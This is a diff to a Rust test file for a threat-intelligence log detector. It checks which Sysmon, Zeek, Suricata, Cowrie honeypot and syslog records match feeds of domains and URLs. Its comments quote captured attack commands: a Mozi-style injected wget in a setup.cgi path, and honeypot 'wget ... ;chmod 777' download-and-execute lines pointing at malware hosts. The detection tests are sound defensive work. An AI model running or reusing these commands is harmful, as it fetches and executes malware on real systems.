@@ -2,7 +2,9 @@
 //! with its profile. The real feeds and these logs share almost no values, so each test
 //! builds a small ThreatFox export from values taken out of the log (an address, an
 //! ip:port pair, a hash) and near misses (a neighbouring address, another port, one hex
-//! digit changed), and asserts exactly which records hit and which indicators never do.
+//! digit changed; for names, a sibling, a parent under exact matching, a name that only
+//! ends like the real one, a URL with another path), and asserts exactly which records hit
+//! and which indicators never do.
 
 mod common;
 
@@ -57,7 +59,13 @@ struct Found {
 }
 
 fn scan(records: &[String], feed: &[(&str, &str)]) -> Found {
-    let mut detector = loaded(&[("log-values".to_string(), threatfox(feed))], GUARD_OFF);
+    scan_with(records, feed, "")
+}
+
+/// [`scan`] with more settings, such as `[[feeds]] name = "log-values"` options.
+fn scan_with(records: &[String], feed: &[(&str, &str)], settings: &str) -> Found {
+    let settings = format!("{GUARD_OFF}{settings}");
+    let mut detector = loaded(&[("log-values".to_string(), threatfox(feed))], &settings);
     let mut found = Found {
         records: records.len(),
         ..Found::default()
@@ -494,4 +502,151 @@ fn cef_test_vectors_scanned_as_lines() {
         50,
         &[("1.1.1.1", 30), ("10.0.0.1", 50), ("2.1.2.2", 10)],
     );
+}
+
+/// Feed options that make the test feed's domains match their subdomains too.
+const SUBDOMAINS: &str = "[[feeds]]\nname = \"log-values\"\ndomain_match = \"subdomains\"\n";
+
+#[test]
+fn sysmon_dns_query_names_and_cname_answers() {
+    let records = lines("sysmon/sysmon_eid1_3_11_22_otrf.jsonl");
+    let feed = [
+        // EID 22 QueryName.
+        ("mobile.pipe.aria.microsoft.com", "domain"),
+        // Its parent (exact matching), a sibling, and a name that only ends like it.
+        ("pipe.aria.microsoft.com", "domain"),
+        ("desktop.pipe.aria.microsoft.com", "domain"),
+        ("obile.pipe.aria.microsoft.com", "domain"),
+        // A CNAME in QueryResults (`type:  5 skypedataprdcoleus04.cloudapp.net;`), read as
+        // text; the parent cloudapp.net is also in the `host` field, which is no profile field.
+        ("skypedataprdcoleus04.cloudapp.net", "domain"),
+        ("cloudapp.net", "domain"),
+    ];
+    let found = scan(&records, &feed);
+    only_profile(&found, "Sysmon");
+    // The CNAME stands in the answers of two of the three queries.
+    expect(
+        &found,
+        3,
+        &[
+            ("mobile.pipe.aria.microsoft.com", 3),
+            ("skypedataprdcoleus04.cloudapp.net", 2),
+        ],
+    );
+}
+
+#[test]
+fn zeek_dns_queries_and_http_hosts() {
+    let feed = [
+        ("www.bing.com", "domain"),
+        ("ww.bing.com", "domain"),
+        ("bing.com", "domain"),
+        ("wpad.felk.cvut.cz", "domain"),
+        ("wpad2.felk.cvut.cz", "domain"),
+        ("felk.cvut.cz", "domain"),
+    ];
+    // dns `query` (and CNAMEs in `answers`), http `host`.
+    for (file, hits, by_indicator) in [
+        (
+            "dns",
+            19,
+            vec![("wpad.felk.cvut.cz", 18), ("www.bing.com", 1)],
+        ),
+        ("http", 26, vec![("www.bing.com", 26)]),
+        ("conn", 0, vec![]),
+    ] {
+        let found = scan(&lines(&format!("zeek_json/{file}.log")), &feed);
+        only_profile(&found, "Zeek");
+        expect(&found, hits, &by_indicator);
+    }
+    // With subdomain matching, bing.com and felk.cvut.cz also find the names under them:
+    // c., g., www., api. and bat.bing.com queries and an any.edge.bing.com CNAME; wpad. and
+    // eight more records under felk.cvut.cz (relay., isatap., ...). ww.bing.com and
+    // wpad2.felk.cvut.cz still miss.
+    let found = scan_with(&lines("zeek_json/dns.log"), &feed, SUBDOMAINS);
+    expect(
+        &found,
+        32,
+        &[
+            ("bing.com", 6),
+            ("felk.cvut.cz", 26),
+            ("wpad.felk.cvut.cz", 18),
+            ("www.bing.com", 1),
+        ],
+    );
+}
+
+#[test]
+fn suricata_dns_names_and_tls_sni() {
+    let records = lines("suricata/eve.json");
+    let found = scan(
+        &records,
+        &[
+            // dns.rrname of 302 queries and 302 answers, and one tls.sni.
+            ("www.myedimax.com", "domain"),
+            ("w.myedimax.com", "domain"),
+            ("mail.myedimax.com", "domain"),
+            ("myedimax.com", "domain"),
+            ("www.google.com", "domain"),
+            ("google.com", "domain"),
+            // http.url is a path (`/setup.cgi?..wget+http://192.168.1.1:8088/Mozi.m..`):
+            // no URL is read out of it.
+            ("http://192.168.1.1:8088/Mozi.m", "url"),
+        ],
+    );
+    only_profile(&found, "SuricataEve");
+    expect(
+        &found,
+        605 + 76,
+        &[("www.google.com", 76), ("www.myedimax.com", 605)],
+    );
+}
+
+#[test]
+fn cowrie_download_urls_and_urls_in_commands() {
+    let records = lines("cowrie/cowrie.json.2018-05-24.jsonl");
+    let found = scan(
+        &records,
+        &[
+            // `url` of a failed download and `wget http://mdb7.cn:8081/exp` in `input`.
+            ("http://mdb7.cn:8081/exp", "url"),
+            ("http://mdb7.cn:8081/exp2", "url"),
+            ("http://mdb7.cn/exp", "url"),
+            // The same download by address: in `url`, and in a command line
+            // (`wget -c http://96.44.186.212:7744/tfhy;chmod 777 tfhy;`).
+            ("http://96.44.186.212:7744/tfhy", "url"),
+            ("http://96.44.186.212:7744/tfh", "url"),
+            // The host on its own, a name that only ends like it, and one under it.
+            ("mdb7.cn", "domain"),
+            ("db7.cn", "domain"),
+            ("www.mdb7.cn", "domain"),
+        ],
+    );
+    only_profile(&found, "Cowrie");
+    expect(
+        &found,
+        4,
+        &[
+            ("http://96.44.186.212:7744/tfhy", 2),
+            ("http://mdb7.cn:8081/exp", 2),
+            ("mdb7.cn", 2),
+        ],
+    );
+}
+
+#[test]
+fn names_in_syslog_and_auditd_text() {
+    let feed = [
+        // The syslog host of every OpenVPN line.
+        ("demo-host.local", "domain"),
+        ("host.local", "domain"),
+        ("other-host.local", "domain"),
+        // `.so` is a top-level domain, but `/lib64/ld-linux-x86-64.so.2` in auditd is a path.
+        ("ld-linux-x86-64.so", "domain"),
+    ];
+    let found = scan(&lines("sentinel/syslog_openvpn_raw.txt"), &feed);
+    only_profile(&found, "PlainText");
+    expect(&found, 32, &[("demo-host.local", 32)]);
+    let found = scan(&lines("auditd/golibaudit_audit-ubuntu16.log"), &feed);
+    expect(&found, 0, &[]);
 }
